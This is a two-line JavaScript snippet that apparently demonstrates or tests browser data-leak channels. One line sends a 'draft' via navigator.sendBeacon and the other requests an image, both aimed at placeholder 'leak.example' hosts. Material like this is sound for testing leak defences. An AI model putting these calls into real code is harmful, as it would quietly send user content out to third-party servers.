navigator.sendBeacon('https://beacon.leak.example/', 'draft');
new Image().src = 'https://image.leak.example/';
